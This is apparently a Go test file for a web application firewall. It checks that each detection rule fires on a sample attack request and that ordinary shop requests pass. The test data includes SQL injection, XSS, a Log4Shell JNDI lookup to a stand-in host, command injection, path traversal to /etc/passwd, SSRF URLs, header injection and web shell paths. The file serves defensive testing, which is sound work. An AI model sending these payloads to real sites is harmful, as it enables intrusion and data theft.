package attack

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// ask is a request as a browser sends it; header pairs follow.
func ask(method, address, body string, header ...string) *Request {
	u, err := url.Parse(address)
	if err != nil {
		panic(err)
	}
	h := http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36"}, "Accept": {"*/*"}}
	for i := 0; i < len(header); i += 2 {
		h.Set(header[i], header[i+1])
	}
	return &Request{Method: method, Host: "www.shop.example", Path: u.EscapedPath(), Query: u.RawQuery, Header: h, Body: []byte(body)}
}

// found are the ids of the rules up to a level that find something.
func found(r *Request, level int64) []int64 {
	var ids []int64
	for _, rule := range Found(r, func(id int64) bool { return id%10 <= level }) {
		ids = append(ids, rule.ID)
	}
	return ids
}

func TestEachRuleFindsItsAttack(t *testing.T) {
	const home = "http://www.shop.example/"
	q := func(text string) *Request { return ask("GET", home+"?q="+url.QueryEscape(text), "") }
	for id, r := range map[int64]*Request{
		110001: q("1 UNION SELECT password FROM users"), 110002: q("1' or '1'='1"), 110003: ask("GET", home, "", "Cookie", "id=1' or '1'='1"),
		110004: q("it's' -- "),
		120001: q("<script>alert(1)</script>"), 120002: q(`<img src=x onerror=alert(1)>`), 120003: ask("GET", home, "", "Referer", `"><svg onload=alert(1)>`),
		120004: q("a <b>bold</b> word"),
		130001: ask("GET", home, "", "X-Api-Version", "${jndi:ldap://evil.example/a}"), 130002: q("1; cat /etc/hosts"), 130003: q("system('id')"), 130004: q("{{7*7}}"),
		140001: ask("GET", home+"?to=x%0d%0aSet-Cookie:%20a=1", ""), 140002: ask("GET", home+"?to=x%250aX-Own:%20a", ""), 140003: ask("GET", home+"a%0ab", ""), 140004: q("a\u2028b"),
		150001: q("/etc/passwd"), 150002: ask("GET", home+"x/..%2f..%2fsecret", ""), 150003: q("php://filter/resource=index"), 150004: q("../a"),
		160001: q("http://evil.example/a.txt"), 160002: q("http://198.51.100.7/x"), 160003: q("gopher://evil.example/"), 160004: q("https://other.example/"),
		170001: ask("GET", home+"c99.php", ""), 170002: ask("POST", home, `{"a":"eval(base64_decode('x'))"}`, "Content-Type", "application/json"),
		170003: ask("POST", home, "Content-Disposition: form-data; name=\"f\"; filename=\"a.php\"", "Content-Type", "multipart/form-data; boundary=x"),
		170004: ask("GET", home+"uploads/2026/a.php", ""),
		180001: ask("POST", home, "", "Sec-Fetch-Site", "cross-site"), 180002: ask("POST", home, "", "Origin", "https://evil.example"),
		180003: ask("DELETE", home, "", "Referer", "https://evil.example/x"), 180004: ask("PUT", home, "", "Cookie", "a=b"),
		190001: ask("GET", home, "", "User-Agent", "sqlmap/1.8"), 190002: ask("GET", home+".git/config", ""), 190003: ask("GET", home+"db.sql.gz", ""), 190004: ask("GET", home, "", "Accept", ""),
		200001: q("1' or '1'='1"), 200002: ask("POST", home, `["1' or '1'='1"]`, "Content-Type", "application/json"), 200003: q(`<img src=x onerror=alert(1)>`),
		200004: ask("GET", home, "", "Cookie", "id=1' or '1'='1"),
	} {
		require.Contains(t, found(r, MaxLevel), id, One(id).Name)
	}
	n := 0
	for i := range Types() {
		for level, r := range Rules(FirstType + int64(i)) {
			require.Equal(t, int64(level+1), r.Level)
			require.Equal(t, r, One(r.ID))
			n++
		}
	}
	require.Equal(t, 40, n, "each of them is tried above")
}

// What sites are asked in everyday life is no attack at the usual levels.
func TestEverydayRequestsPass(t *testing.T) {
	const home = "http://www.shop.example/"
	form := ask("POST", home+"contact", "", "Content-Type", "application/x-www-form-urlencoded", "Origin", "https://www.shop.example", "Cookie", "session=abc123; theme=dark")
	form.Form = url.Values{"name": {"Séan O'Neill"}, "text": {"I'd like to order 2 shirts & a hat.\r\nColour: blue\r\nThanks -- Séan"}, "site": {"https://mine.example/"}}
	for _, r := range []*Request{
		ask("GET", home, ""), ask("GET", home+"products/12?page=2&sort=price-asc&colour=red%20and%20blue", ""), form,
		ask("GET", home+"search?q=rock+%26+roll+select+from+the+best", ""), ask("GET", home+"search?q=O%27Neill", ""),
		ask("GET", home+"assets/app.9f8a.js?v=1.2.3", "", "Referer", "https://www.shop.example/?utm_source=a&utm_medium=b"),
		ask("POST", home+"api", `{"email":"a@b.example","tags":["x","y"],"note":"a < b and c > d","n":1}`, "Content-Type", "application/json", "Origin", "https://www.shop.example"),
		ask("GET", home+"?return=/account/orders&date=2026-01-02T03:04:05Z", ""), ask("GET", home+"a+b/c%20d", ""), ask("GET", home+"100%25", ""),
		ask("GET", home+"?q=100%&r=%zz", ""),
	} {
		require.Empty(t, found(r, 2), "%s %s?%s", r.Method, r.Path, r.Query)
	}
}

func TestSetsTurnRulesOn(t *testing.T) {
	s := Set{AttackType: 11, ProtectionLevel: 2, Action: "monitor"}
	s.ManagedRules = append(s.ManagedRules, struct {
		Action, Status string
		ID             int64 `json:"Id"`
	}{"deny", "on", 110004}, struct {
		Action, Status string
		ID             int64 `json:"Id"`
	}{"", "off", 110001})
	list := s.States()
	require.Len(t, list, 4)
	for i, want := range []State{{On: false, Action: "monitor"}, {On: true, Action: "monitor"}, {On: false, Action: "monitor"}, {On: true, Action: "deny"}} {
		want.Rule = One(110001 + int64(i))
		require.Equal(t, want, list[i])
	}
	require.Empty(t, Set{AttackType: 99}.States())
	require.Empty(t, Rules(10))
	require.Zero(t, One(110005))
	require.True(t, One(110001).Is("sqli") && One(110001).Is("11") && !One(110001).Is("xss"))
}

func FuzzFound(f *testing.F) {
	f.Add("GET", "/a%2f..", "q=1%27+or+1", `{"a":["b"]}`, "c=d; e")
	f.Add("POST", "/%zz", "&&=%", "{", ";=;")
	f.Fuzz(func(t *testing.T, method, path, query, body, cookie string) {
		for _, kind := range []string{"application/json", "text/plain"} {
			r := &Request{Method: method, Host: "h", Path: path, Query: query, Body: []byte(body),
				Header: http.Header{"Cookie": {cookie}, "Content-Type": {kind}, "User-Agent": {strings.ToUpper(cookie)}}}
			once := Found(r, func(int64) bool { return true })
			require.Equal(t, once, Found(r, func(int64) bool { return true }), "looking changes nothing")
		}
	})
}
